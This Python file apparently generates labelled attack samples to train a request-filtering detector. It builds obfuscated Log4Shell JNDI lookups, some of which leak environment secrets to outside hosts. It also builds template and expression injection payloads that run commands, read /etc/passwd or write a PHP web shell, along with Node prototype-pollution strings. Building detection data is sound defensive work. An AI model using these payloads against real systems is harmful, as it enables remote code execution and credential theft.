"""Log4Shell lookups (with nested-lookup obfuscation) and server-side template / expression
injection (Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf/SpEL, OGNL, EL, Handlebars, Smarty)."""

from __future__ import annotations

import random

from apiward.ml.generators.base import Family, Sample, chance, encode_layer, pick, rand_host, rand_ident, rand_ip, weighted


def _obf_char(rng: random.Random, ch: str) -> str:
    roll = rng.random()
    if roll < 0.5:
        return ch
    if roll < 0.65:
        return f"${{lower:{ch}}}" if ch.isalpha() else ch
    if roll < 0.75:
        return f"${{upper:{ch}}}" if ch.isalpha() else ch
    if roll < 0.88:
        return f"${{::-{ch}}}"
    if roll < 0.94:
        return f"${{{pick(rng, ('env', 'sys', 'date', rand_ident(rng)))}:{rand_ident(rng)}:-{ch}}}"
    return f"${{{rand_ident(rng)}:-{ch}}}"


def _obf_word(rng: random.Random, word: str, p: float) -> str:
    if not chance(rng, p):
        return word
    return "".join(_obf_char(rng, c) for c in word)


def _log4shell(rng: random.Random) -> str:
    proto = pick(rng, ("ldap", "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http", "nis"))
    host = rand_host(rng) if chance(rng, 0.6) else f"{rand_ip(rng)}:{pick(rng, (1389, 389, 1099, 53, 8080, 443))}"
    if chance(rng, 0.3):
        leak = pick(rng, ("${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${env:USER}", "${hostName}", "${java:version}", "${env:HOSTNAME}", "${sys:user.name}"))
        host = f"{leak}.{host}"
    path = pick(rng, ("a", "Exploit", "x", rand_ident(rng), "Basic/Command/Base64/aWQ=", "o=tomcat", ""))
    p = 0.45
    jndi = _obf_word(rng, "jndi", p)
    proto_t = _obf_word(rng, proto, p)
    sep = pick(rng, (":", ":", "${::-:}")) if chance(rng, 0.8) else ":"
    body = f"${{{jndi}{sep}{proto_t}://{host}/{path}}}"
    if chance(rng, 0.1):
        body = body.replace("${", pick(rng, ("$%7B", "%24%7B", "${${::-$}{", "$\\u007b")), 1)
    if chance(rng, 0.15):
        body = pick(rng, ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + host + "/" + path + "}",
                          "${jndi:${lower:l}${lower:d}a${lower:p}://" + host + "/" + path + "}",
                          "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://" + host + "/" + path + "}",
                          "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://" + host + "/" + path + "}",
                          "${jndi:dns://" + host + "}",
                          "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//" + host + "/" + path + "}"))
    prefix = pick(rng, ("", "", "", "Mozilla/5.0 ", "test", rand_ident(rng) + " ", "X-"))
    return f"{prefix}{body}"


def _lookup_leak(rng: random.Random) -> str:
    """Lookups that leak data without JNDI (also blocked by patched-but-misconfigured setups)."""
    return pick(rng, ("${env:AWS_SECRET_ACCESS_KEY}", "${sys:user.home}", "${java:runtime}", "${ctx:loginId}", "${main:0}", "${bundle:application:db.password}", "${docker:containerId}", "${k8s:accountName}", "${base64:JHtqbmRp}", "${date:yyyy}${jndi:ldap://" + rand_host(rng) + "/a}", "${${env:ENV_NAME:-j}ndi}", "${sys:java.vendor}"))


def _jinja(rng: random.Random) -> str:
    cmd = pick(rng, ("id", "whoami", "ls", "cat /etc/passwd", "uname -a"))
    return pick(rng, (
        f"{{{{{rng.randint(2, 99)}*{rng.randint(2, 99)}}}}}",
        f"{{{{config}}}}",
        f"{{{{config.items()}}}}",
        f"{{{{self.__init__.__globals__.__builtins__}}}}",
        f"{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
        f"{{{{''.__class__.__mro__[{rng.randint(1, 2)}].__subclasses__()[{rng.randint(40, 450)}]('{cmd}',shell=True,stdout=-1).communicate()}}}}",
        f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}}}",
        f"{{{{cycler.__init__.__globals__.os.popen('{cmd}').read()}}}}",
        f"{{{{lipsum.__globals__['os'].popen('{cmd}').read()}}}}",
        f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
        f"{{{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}}}",
        f"{{{{ namespace.__init__.__globals__.os.popen('{cmd}').read() }}}}",
        f"{{{{7*'7'}}}}",
        f"{{% import os %}}{{{{os.system('{cmd}')}}}}",
        f"{{{{url_for.__globals__.current_app.config}}}}",
    ))


def _other_templates(rng: random.Random) -> str:
    cmd = pick(rng, ("id", "whoami", "ls -la", "cat /etc/passwd", "calc"))
    a, b = rng.randint(2, 99), rng.randint(2, 99)
    return pick(rng, (
        f"{{{{_self.env.registerUndefinedFilterCallback(\"exec\")}}}}{{{{_self.env.getFilter(\"{cmd}\")}}}}",
        f"{{{{['{cmd}']|filter('system')}}}}",
        f"{{{{['{cmd}']|map('passthru')|join}}}}",
        f"<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${{ex(\"{cmd}\")}}",
        f"${{\"freemarker.template.utility.Execute\"?new()(\"{cmd}\")}}",
        f"${{{a}*{b}}}",
        f"#{{{a}*{b}}}",
        f"*{{{a}*{b}}}",
        f"${{{{{a}*{b}}}}}",
        f"#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{cmd}\"))$x",
        f"#set($s=\"\")#set($r=$s.getClass().forName(\"java.lang.Runtime\"))",
        f"$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"{cmd}\")",
        f"<%= system('{cmd}') %>",
        f"<%= `{cmd}` %>",
        f"<%= File.open('/etc/passwd').read %>",
        f"<%= {a}*{b} %>",
        f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"*{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"#{{T(java.lang.System).getenv()}}",
        f"__${{T(java.lang.Runtime).getRuntime().exec(\"{cmd}\")}}__::.x",
        f"${{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{cmd}').getInputStream()).next()}}",
        f"%{{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('{cmd}'))}}",
        f"%{{#context['xwork.MethodAccessor.denyMethodExecution']=false}}",
        f"${{#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('{cmd}')}}",
        f"%{{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='{cmd}')}}",
        f"(#cmd='{cmd}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))",
        f"${{@java.lang.Runtime@getRuntime().exec('{cmd}')}}",
        f"${{pageContext.request.getSession().setAttribute(\"{rand_ident(rng)}\",\"1\")}}",
        f"${{applicationScope}}",
        f"${{sessionScope.user}}",
        f"#{{session.setAttribute(\"x\",\"y\")}}",
        f"{{{{#with \"s\" as |string|}}}}{{{{#with (string.sub.apply 0 codelist)}}}}{{{{this}}}}{{{{/with}}}}{{{{/with}}}}",
        f"{{php}}echo `{cmd}`;{{/php}}",
        f"{{system('{cmd}')}}",
        f"{{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}}",
        f"@{{{a}*{b}}}",
        f"@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c {cmd}\"))",
        f"{{{{constructor.constructor('return process')().mainModule.require('child_process').execSync('{cmd}')}}}}",
        f"#{{{a}*{b}}}",
        f"{{{{= global.process.mainModule.require('child_process').execSync('{cmd}') }}}}",
        f"<%- global.process.mainModule.require('child_process').execSync('{cmd}') %>",
        f"${{T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec(\"{cmd}\").getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())}}",
    ))


def _server_code(rng: random.Random) -> str:
    """Code for a server-side interpreter reached without a template: Node.js (``require``,
    ``process``, constructor chains, prototype pollution), Perl ``@{[ ]}`` interpolation, Ruby and
    Python one-liners."""
    cmd = pick(rng, ("id", "whoami", "ls", "uname -a", "cat /etc/passwd"))
    q = pick(rng, ("'", '"'))
    mod = pick(rng, ("child_process", "fs", "os", "net", "vm"))
    wrap = pick(rng, ("{}", "#{{{}}}", "${{{}}}", "{};", "({})", "[{}]"))
    node = pick(rng, (
        f"require({q}{mod}{q}).{pick(rng, ('exec', 'execSync', 'spawn', 'readFileSync', 'writeFile'))}({q}{cmd}{q})",
        f"require.main.constructor._load({q}{mod}{q})",
        f"process.binding({q}spawn_sync{q}).spawn({rand_ident(rng)})",
        f"process.mainModule.require({q}{mod}{q})",
        f"process[{q}env{q}]",
        f"process.env",
        f"global.process.exit()",
        f"this.constructor.constructor({q}return process{q})()",
        f"console[{q}log{q}]({rng.randint(2, 99)}*{rng.randint(2, 99)})",
        f"console.log.call(this,{rng.randint(1, 9)})",
        f"module.exports={{}}",
        f"new Function({q}return this.process{q})()",
        f"Buffer.from({q}{rand_ident(rng)}{q},{q}base64{q}).toString()",
        f"eval(require({q}{mod}{q}))",
    ))
    roll = rng.random()
    if roll < 0.55:
        return wrap.format(node)
    if roll < 0.72:
        key = pick(rng, ("__proto__", "constructor[prototype]", "constructor.prototype", "__proto__.__proto__"))
        prop = pick(rng, ("isAdmin", "shell", "outputFunctionName", "polluted", "env", "NODE_OPTIONS", rand_ident(rng)))
        sep = pick(rng, ("[{}]", ".{}"))
        return f"{key}{sep.format(prop)}{pick(rng, ('', '=true', '=1', '=' + q + cmd + q))}"
    if roll < 0.88:
        perl = pick(rng, (f"system {q}{cmd}{q}", f"`{cmd}`", f"exec({q}{cmd}{q})", "rand 100", f"open(F,{q}/etc/passwd{q})",
                          "sort { $a <=> $b } (3,2,1)", f"qx({cmd})", "CORE::time()"))
        return pick(rng, (f"@{{[{perl}]}}", f"@{{[ {perl} ]}}", f"${{\\ {perl}}}"))
    return pick(rng, (f"__import__({q}os{q}).system({q}{cmd}{q})", f"__import__({q}os{q}).popen({q}{cmd}{q}).read()",
                      f"Kernel.exec({q}{cmd}{q})", f"IO.popen({q}{cmd}{q}).read", f"%x({cmd})",
                      f"getattr(__import__({q}os{q}),{q}system{q})({q}{cmd}{q})"))


_SSTI: tuple[tuple[str, Family, float], ...] = (
    ("jinja", _jinja, 2.0),
    ("other_engines", _other_templates, 3.0),
    ("server_code", _server_code, 1.2),
)


def generate_log4shell(rng: random.Random, n: int) -> list[Sample]:
    out = []
    for _ in range(n):
        if chance(rng, 0.12):
            out.append(Sample(encode_layer(rng, _lookup_leak(rng)), "log4shell", "leak"))
        else:
            out.append(Sample(encode_layer(rng, _log4shell(rng)), "log4shell", "jndi"))
    return out


def generate_ssti(rng: random.Random, n: int) -> list[Sample]:
    out = []
    for _ in range(n):
        name, fn = weighted(rng, _SSTI)
        out.append(Sample(encode_layer(rng, fn(rng)), "ssti", name))
    return out
